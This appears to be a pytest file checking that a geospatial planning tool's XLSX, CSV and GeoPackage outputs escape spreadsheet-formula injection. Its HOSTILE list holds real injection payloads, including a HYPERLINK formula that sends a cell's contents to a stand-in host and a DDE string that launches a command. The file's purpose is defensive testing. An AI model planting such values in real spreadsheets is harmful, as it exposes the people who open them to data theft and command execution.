"""Hostile and careless use of the product's outputs and options (issue 12, part A).

Classes: spreadsheet injection (no formula from a planner's text in any XLSX/CSV), parameters
(NaN, negative, zero, infinite, absurd), output paths (directories, missing folders, wrong
extensions, unwritable places), cache folders, long names and interrupted report runs. Each
case is an input and its expected outcome: exit code + message fragment, or the right answer.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from cli.main import main
from geo.spreadsheet import FORMULA_START, csv_bytes, escape_text, harden_workbook, safe_frame
from tests.conftest import ROOT

# ------------------------------------------------------------------------------ injection

HOSTILE = [
    '=HYPERLINK("http://x/?x="&A1,"click")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _centers_csv(path: Path, names: list[str]) -> Path:
    g = gpd.read_file(ROOT / "data" / "demo" / "service_centers.geojson").head(len(names))
    rows = [{"编号": f"X{i}", "名称": n, "所属社区": n, "地址": n, "经度": p.x, "纬度": p.y}
            for i, (n, p) in enumerate(zip(names, g.geometry))]
    pd.DataFrame(rows).to_csv(path, index=False, encoding="utf-8-sig")
    return path


def _sheet_xml(xlsx: Path) -> dict[str, str]:
    with zipfile.ZipFile(xlsx) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _all_text(xlsx: Path) -> str:
    with zipfile.ZipFile(xlsx) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("inj")
    centers = _centers_csv(d / "centers.csv", HOSTILE)
    assert main(["report", "--centers", str(centers), "--format", "xlsx,gpkg", "--lang", "en",
                 "--out", str(d / "rep")]) == 0
    (xlsx,) = (d / "rep").glob("*.xlsx")
    return xlsx


def test_no_formula_element_anywhere_in_the_report_workbook(hostile_report):
    sheets = _sheet_xml(hostile_report)
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_name_is_stored_as_escaped_text(hostile_report, text):
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    read = text.strip()  # the reader trims surrounding whitespace (tab, CR) from names
    assert escape_text(read) in values           # kept, with the leading quote
    assert read not in values                    # never as the raw formula text
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == escape_text(read)]
    assert cells and all(c.data_type == "s" for c in cells)


def test_numbers_stay_numbers_in_the_report_workbook(hostile_report):
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report)
    nums = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row
            if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert len(nums) > 50 and all(c.data_type == "n" for c in nums)


def test_full_names_kept_in_the_report_geopackage(hostile_report):
    gpkg = next(hostile_report.parent.glob("*.gpkg"))
    names = set(gpd.read_file(gpkg, layer="centers")["name"])
    assert {t.strip() for t in HOSTILE} <= names  # the GIS layer keeps the text as read (not escaped)


@pytest.mark.parametrize("text", HOSTILE + ["普通名称", "a=b", "", "'already"])
def test_escape_rule(text):
    out = escape_text(text)
    if text[:1] in FORMULA_START:
        assert out == "'" + text
    else:
        assert out == text
    assert escape_text(out) == out  # idempotent


def test_csv_writer_escapes_text_and_keeps_numbers(tmp_path):
    from geo.readers import write_layer

    g = gpd.GeoDataFrame({"name": HOSTILE, "n": range(len(HOSTILE)), "x": [-1.5] * len(HOSTILE)},
                         geometry=gpd.points_from_xy([120.16] * len(HOSTILE), [30.25] * len(HOSTILE)), crs=4326)
    p = write_layer(g, tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO(p.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r["name"] for r in rows] == [escape_text(t) for t in HOSTILE]
    assert [r["x"] for r in rows] == ["-1.5"] * len(HOSTILE)  # numbers are not quoted
    assert all(r["WKT"].startswith("POINT") for r in rows)


def test_csv_bytes_and_frames_escape_column_names_too():
    df = pd.DataFrame({"=bad": ["=1+1"], "ok": [3]})
    out = safe_frame(df)
    assert list(out.columns) == ["'=bad", "ok"] and out.iloc[0, 0] == "'=1+1" and out.iloc[0, 1] == 3
    text = csv_bytes(df).decode("utf-8-sig")
    assert text.split("\r\n") == ["'=bad,ok", "'=1+1,3", ""]


def test_openpyxl_formula_cells_are_hardened():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HOSTILE + [1.5, 2])
    assert any(c.data_type == "f" for c in ws[1])  # what openpyxl would have written
    harden_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert [c.data_type for c in ws[1]] == ["s"] * len(HOSTILE) + ["n", "n"]


def test_scenario_and_batch_workbooks_use_the_shared_guard(tmp_path):
    from geo.spreadsheet import write_frames_xlsx

    p = tmp_path / "t.xlsx"
    write_frames_xlsx(p, {"a": pd.DataFrame({"name": HOSTILE, "v": range(len(HOSTILE))})})
    xml = "".join(_sheet_xml(p).values())
    assert "<f>" not in xml and "<f " not in xml
    from analysis.batch import xlsx_text_safe

    assert [xlsx_text_safe(t) for t in HOSTILE] == [escape_text(t) for t in HOSTILE]


def test_party_lists_workbook_goes_through_the_guard(tmp_path):
    from analysis.report.content import Column, Table
    from analysis.report.party import write_party_xlsx

    t = Table(key="x", title="x", sheet="x", columns=[Column("name", "name", "text"), Column("n", "n", "int")],
              df=pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))}))
    p = write_party_xlsx([t], tmp_path / "lists.xlsx", "en")
    xml = "".join(_sheet_xml(p).values())
    assert "<f>" not in xml and "<f " not in xml


def test_templates_are_written_without_formulas(tmp_path):
    from geo.templates import write_templates

    for p in write_templates(tmp_path):
        if p.suffix == ".xlsx":
            assert not re.search(r"<f[ >]", "".join(_sheet_xml(p).values()))
        if p.suffix == ".csv":
            for row in csv.reader(io.StringIO(p.read_bytes().decode("utf-8-sig"))):
                assert not any(v[:1] in FORMULA_START for v in row)
